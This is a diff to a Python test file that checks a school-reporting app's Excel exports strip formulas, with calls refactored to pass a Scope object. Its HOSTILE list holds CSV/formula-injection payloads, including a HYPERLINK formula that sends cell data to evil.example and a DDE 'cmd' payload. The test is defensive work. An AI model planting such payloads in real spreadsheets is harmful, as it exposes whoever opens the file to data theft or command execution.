@@ -10,9 +10,10 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from sendboard import audit, cli, exports, ui
+from sendboard import audit, cli, clock, exports, ui
 from sendboard.app_db import open_database
 from sendboard.db import close_all
+from sendboard.scope import Scope
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]
@@ -111,11 +112,11 @@ def test_governors_pack_workbook(hostile_db, viewers):
 
     head = viewers["head"]
     hostile_db.cursor().execute("UPDATE schools SET name = $n WHERE school_id = 1", {"n": "=1+1 Academy"})
-    save_commentary(hostile_db, head, 1, 2025, OVERALL, HOSTILE[0])
-    save_commentary(hostile_db, head, 1, 2025, "register", HOSTILE[1])
+    save_commentary(hostile_db, Scope(head, clock.today()), 1, 2025, OVERALL, HOSTILE[0])
+    save_commentary(hostile_db, Scope(head, clock.today()), 1, 2025, "register", HOSTILE[1])
     from datetime import date
 
-    pack = build_pack(hostile_db, head, 1, 2025, date(2026, 1, 15), "=1+1 Academy", "secondary")
+    pack = build_pack(hostile_db, Scope(head, clock.today()), 1, 2025, date(2026, 1, 15), "=1+1 Academy", "secondary")
     data = excel_bytes(pack, {OVERALL: HOSTILE[0], "register": HOSTILE[1]})
     assert assert_no_formula_in_xlsx(data) >= 2
 
